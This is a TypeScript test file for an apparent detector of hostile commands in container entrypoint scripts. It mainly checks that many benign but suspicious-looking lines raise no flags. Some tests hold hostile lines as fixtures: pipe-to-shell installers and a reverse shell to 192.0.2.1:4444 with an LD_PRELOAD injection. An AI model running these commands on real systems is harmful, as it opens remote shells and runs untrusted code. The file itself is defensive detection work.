import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { clueLines } from '../../../test/support/command-clues.ts';
import { fixturesRoot } from '../../../test/support/project.ts';

const LINES: readonly string[] = [
  'timeout 15 bash -c "until echo > /dev/tcp/localhost/5432; do sleep 1; done"',
  'exec 3<>/dev/tcp/$HOST/$PORT && echo up; exec 3>&-',
  '(echo > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1',
  'echo ruok | nc localhost 2181',
  'nc -z db 5432',
  'curl -fsS http://localhost:8080/health | grep ok',
  'curl -s https://api.example/data.json | python3 -c "import json,sys; print(json.load(sys.stdin))"',
  'curl -sSL https://x.example/a.tgz | tar xz -C /opt',
  'echo "0 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup; crond -f',
  'echo "*/5 * * * * www-data php /var/www/html/cron.php" | crontab -',
  '(crontab -l; echo "0 0 * * * /usr/bin/certbot renew") | crontab -',
  'mkdir -p ~/.ssh; echo "$SSH_PUBLIC_KEY" >> ~/.ssh/authorized_keys',
  'echo "$PUBLIC_KEY" >> /config/.ssh/authorized_keys',
  'echo "${USER_NAME:-default}:x:$(id -u):0:${USER_NAME:-default} user:${HOME}:/sbin/nologin" >> /etc/passwd',
  'cp /opt/cni/bin/* /host/opt/cni/bin/; cp /tmp/10-calico.conflist /host/etc/cni/net.d/10-calico.conflist',
  'eval "$(ssh-agent -s)"',
  'eval "$(dircolors -b)"',
  'export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
  'echo "$CERT" | base64 -d > /etc/ssl/cert.pem',
  'export SECRET=$(echo "$B64" | base64 -d)',
  'socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock',
  'docker run --rm -v $PWD:/src alpine ls',
  'curl --unix-socket /var/run/docker.sock http://localhost/containers/json',
  'exec -a "$0" java -jar /app.jar',
  String.raw`sed -i 's/required *pam_loginuid.so/optional pam_loginuid.so/' /etc/pam.d/sshd`,
  String.raw`sed -i 's/PermitRootLogin prohibit-password/PermitRootLogin yes/' /etc/ssh/sshd_config`,
  'pkill -HUP nginx',
  'kill $(cat /run/x.pid)',
  String.raw`ps aux | grep gunicorn | awk '{print $2}' | xargs kill`,
  'sysctl -w vm.max_map_count=262144',
  'rm -rf /var/log/* /root/.cache /tmp/*',
  'xmrig --help',
  'redis-server --port 6379',
  'mysql -u root -p x -h db',
  'psql -o out.txt -h pool.example:5432',
  'ssh -o StrictHostKeyChecking=no host',
  'gcc -o /usr/bin/x x.c',
  'curl -o /tmp/a.json https://api.example/a',
  'wget -O /var/www/index.html http://a.example/index.html',
  'git clone https://github.com/x/y /src && cd /src && make',
  'su-exec app /entry "$@"',
  'chroot /rootfs-build ls',
  String.raw`gawk 'BEGIN{ s="/inet/tcp/0/localhost/80"; print "GET /" |& s; while ((s |& getline l) > 0) print l }'`,
  'useradd -o -u "$PUID" abc',
  'usermod -o -u 1000 abc',
  'iptables -t nat -A POSTROUTING -j MASQUERADE',
  String.raw`echo 'export PATH=$PATH:/opt/bin' >> /etc/profile.d/x.sh`,
  String.raw`echo "alias ll='ls -l'" >> ~/.bashrc`,
  String.raw`cat /etc/os-release | sh -c 'cat'`,
  'until curl -sf http://web:8080/; do sleep 1; done',
  '. /etc/os-release',
  'source /opt/venv/bin/activate',
  'bash /docker-entrypoint.sh',
  'chmod +x /entry.sh && /entry.sh',
  'docker-php-ext-install mysqli',
];

test('lines of honest entrypoints', () => {
  for (const script of LINES) assert.deepEqual(clueLines(script), [], script);
});

// Written after the entrypoints of well-known images, each with what looks hostile in it.
test('honest entrypoints', () => {
  const folder = join(fixturesRoot, 'commands', 'honest');
  for (const name of readdirSync(folder).sort()) {
    const script = readFileSync(join(folder, name), 'utf8');
    for (const reach of ['started', 'present'] as const) {
      assert.deepEqual(clueLines(script, { path: 'usr/local/bin/entrypoint.sh', reach }), [], name);
    }
  }
});

test('installers of vendors in builds, and at run time', () => {
  const script = 'curl -fsSL https://deb.nodesource.com/setup_20.x | bash -';
  assert.deepEqual(clueLines(script, { reach: 'build-only' }), []);
  assert.deepEqual(clueLines('wget -O- https://install.vendor.example/x.sh | sh', { reach: 'build-only' }), []);
  assert.deepEqual(clueLines(script), [
    'weak fetch-to-shell: downloads setup_20.x from deb.nodesource.com and runs it',
  ]);
});

test('collections of what attackers do', () => {
  const script = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; export LD_PRELOAD=/tmp/x.so';
  const told = clueLines(script, { path: 'opt/PayloadsAllTheThings/shell.sh', reach: 'present' });
  assert.deepEqual(told, ['weak reverse-shell-command: connects to 192.0.2.1:4444 and gives it a shell']);
});
